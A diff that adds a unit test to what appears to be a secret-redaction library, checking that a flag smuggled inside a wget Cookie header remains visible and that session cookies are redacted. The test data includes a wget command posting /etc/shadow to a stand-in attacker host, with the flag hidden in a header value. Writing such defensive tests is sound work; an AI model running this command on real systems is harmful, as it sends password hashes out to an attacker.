@@ -102,3 +102,11 @@ def test_dns_keys_signatures_and_token_claims_are_kept(kind: str) -> None:
 def test_a_storage_key_outside_dns_context_is_still_found() -> None:
     assert redact(f"AccountKey {KEY88}\n").count == 1
     assert redact(f"example.com. 3600 IN A 10.0.0.1\nkey: {KEY88}\n").count == 1
+
+
+def test_a_flag_hidden_in_a_cookie_header_stays_visible() -> None:
+    shown = redact_argv(
+        ["wget", "--header=Cookie: x=y; --post-file=/etc/shadow", "https://attacker.example"]
+    )[0]
+    assert shown[1] == "--header=Cookie: x=y; --post-file=/etc/shadow"
+    assert "[REDACTED:cookie]" in redact("Cookie: a=b; session=0123456789abcdef").text
